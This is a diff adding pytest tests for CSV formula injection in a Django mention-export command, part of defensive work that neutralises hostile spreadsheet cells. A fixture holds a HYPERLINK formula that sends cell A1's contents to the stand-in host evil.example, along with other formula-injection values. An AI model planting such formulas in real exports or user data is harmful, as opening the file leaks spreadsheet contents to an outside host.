@@ -13,7 +13,7 @@ from pathlib import Path
 import pytest
 from django.core.management import CommandError, call_command
 
-from listening.models import Brand, Mention, Source
+from listening.models import Author, Brand, Mention, Source
 from tests.feeds import numbered_items, rss_feed, rss_item
 
 pytestmark = pytest.mark.django_db
@@ -186,6 +186,49 @@ def test_export_mentions_rejects_a_bad_date_and_an_unknown_brand(stored):
         run("export_mentions", "--brand", "Acme", "--since", "yesterday-ish")
     with pytest.raises(CommandError, match="No brand named"):
         run("export_mentions", "--brand", "Nobody")
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1, "acme")'
+
+
+@pytest.fixture
+def hostile(stored):
+    """Mention 1 with a formula in every text column a stranger controls."""
+    mention = Mention.objects.get(external_id="1")
+    Mention.objects.filter(pk=mention.pk).update(
+        text=FORMULA, title="+SUM(1+1)", external_id="-1+cmd"
+    )
+    Author.objects.filter(pk=mention.author_id).update(display_name="@SUM(A1)")
+    return mention
+
+
+def test_export_mentions_keeps_exact_text_by_default(hostile):
+    rows = list(csv.DictReader(io.StringIO(run("export_mentions", "--brand", "Acme"))))
+    first = rows[0]
+    assert first["text"] == FORMULA
+    assert first["title"] == "+SUM(1+1)"
+    assert first["external_id"] == "-1+cmd"
+    assert first["author"] == "@SUM(A1)"
+
+
+def test_export_mentions_spreadsheet_safe_neutralises_formulas_and_keeps_numbers(hostile):
+    output = run("export_mentions", "--brand", "Globex", "--spreadsheet-safe")
+    assert "'" not in output  # nothing hostile for Globex: nothing changes
+    output = run("export_mentions", "--brand", "Acme", "--spreadsheet-safe")
+    rows = list(csv.DictReader(io.StringIO(output)))
+    first = rows[0]
+    assert first["text"] == "'" + FORMULA
+    assert first["title"] == "'+SUM(1+1)"
+    assert first["external_id"] == "'-1+cmd"
+    assert first["author"] == "'@SUM(A1)"
+    assert first["id"] == str(hostile.pk)
+    assert float(first["compound"]) == hostile.compound
+    assert rows[1]["text"] == 'Acme vs Globex. Acme, "quoted", and Globex; commas, too.'
+
+
+def test_export_mentions_refuses_spreadsheet_safe_for_jsonl(hostile):
+    with pytest.raises(CommandError, match="--format csv only"):
+        run("export_mentions", "--brand", "Acme", "--format", "jsonl", "--spreadsheet-safe")
 
 
 def test_a_bad_command_line_exits_non_zero_with_a_clear_message():
